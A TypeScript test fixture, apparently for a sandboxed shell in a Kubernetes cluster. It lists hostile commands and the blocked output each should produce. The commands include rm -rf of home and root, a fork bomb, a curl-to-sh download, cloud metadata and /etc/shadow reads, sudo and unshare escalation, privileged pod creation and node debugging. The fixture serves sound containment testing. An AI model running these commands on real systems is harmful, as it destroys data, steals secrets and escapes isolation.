/** Something that a text may have its reader type to do harm. */
export interface HostileLine {
  /** What it tries. */
  tries: string
  /** With HOST, GATEWAY and PORT for where this machine listens. */
  line: string
  /** What must be seen of it: in what it prints, or in the reason. */
  seen: RegExp
}

/** They are typed in this order; after each the text goes on. */
export const hostileLines: readonly HostileLine[] = [
  { tries: 'to empty the home', line: 'rm -rf ~', seen: /cannot remove/ },
  {
    tries: 'to empty the disk',
    line: 'rm -rf / --no-preserve-root 2>&1 | tail -1',
    seen: /Read-only|denied/,
  },
  { tries: 'to use up the processes', line: ':(){ :|:& };:', seen: /^\[1\]|unavailable/ },
  {
    tries: 'to use up the memory',
    line: 'head -c 4G /dev/zero | tail | wc -c',
    seen: /^0$|Killed|exhausted/m,
  },
  { tries: 'to use up the disk', line: 'head -c 10G /dev/zero > ~/zeros; rm ~/zeros', seen: /No space left/ },
  { tries: 'to print for ever', line: 'yes', seen: /printed more than 1 MiB/ },
  { tries: 'to print 10 GB', line: 'head -c 10G /dev/zero | tr "\\0" x', seen: /printed more than 1 MiB/ },
  {
    tries: 'to ask this machine',
    line: 'curl -sS -m 5 http://HOST:PORT',
    seen: /timed out|ailed to connect|refused/,
  },
  {
    tries: 'to ask it as the gateway',
    line: 'curl -sS -m 5 http://GATEWAY:PORT',
    seen: /timed out|ailed to connect|refused/,
  },
  {
    tries: 'to ask the internet by a number',
    line: 'curl -sS -m 5 http://1.1.1.1',
    seen: /timed out|ailed to connect|unreachable|refused/,
  },
  {
    tries: 'to ask the internet by a name',
    line: 'curl -sS https://example.com/install.sh | sh',
    seen: /nothing but the cluster/,
  },
  {
    tries: 'to ask for metadata of a cloud',
    line: 'curl -sS -m 5 http://169.254.169.254/',
    seen: /timed out|ailed to connect|unreachable|refused/,
  },
  { tries: 'to listen', line: 'busybox nc -l -p PORT & sleep 1; jobs', seen: /nc -l/ },
  { tries: 'to end all processes', line: 'kill -9 -1', seen: /^$/ },
  { tries: 'to read who may log in', line: 'cat /etc/shadow', seen: /Permission denied/ },
  {
    tries: 'to read files of this machine',
    line: 'ls -A /root /home/reader /mnt /media',
    seen: /Permission denied|^\/home\/reader/m,
  },
  { tries: 'to get rights', line: 'sudo -n id; su -c id', seen: /rights on the machine/ },
  {
    tries: 'to get rights by a program',
    line: 'unshare -r mount -t tmpfs x /mnt',
    seen: /denied|failed|not permitted/,
  },
  { tries: 'to lose the kubeconfig', line: 'echo x > ~/.kube/config; rm ~/.kube/config', seen: /^$/ },
  { tries: 'to sleep for ever', line: 'sleep infinity', seen: /no prompt back/ },
  {
    tries: 'to sleep, whatever is pressed',
    line: "trap '' INT QUIT TERM HUP; sleep 1d",
    seen: /no prompt back/,
  },
  { tries: 'to leave the shell', line: 'exit 3', seen: /^exit/ },
  { tries: 'to take its place', line: 'exec sleep 1d', seen: /no prompt back/ },
  { tries: 'to change the prompt', line: "PROMPT_COMMAND=; PS1='$ '", seen: /readonly/ },
  { tries: 'to stay behind', line: 'sleep 1d & sleep 1d & disown -a', seen: /^\[1\]/ },
  {
    tries: 'to get containers with rights',
    line: 'kubectl apply -f pods.yaml',
    seen: /pod\/privileged created/,
  },
  {
    tries: 'to have the API server ask this machine',
    line: 'sleep 25; timeout 10 kubectl get --raw /api/v1/namespaces/default/services/host/proxy/',
    seen: /^$|error|rror/,
  },
  {
    tries: 'to debug the node',
    line: 'timeout 15 kubectl debug node/$(kubectl get nodes -o name | cut -d/ -f2) --image=busybox -- ls /host',
    seen: /Creating debugging pod/,
  },
]

/** Pods of `pods.yaml` that must never run. */
export const neverRun = [
  'privileged',
  'capable',
  'host-network',
  'host-pid',
  'host-path',
  'folders-of-pods',
  'local-volume',
]
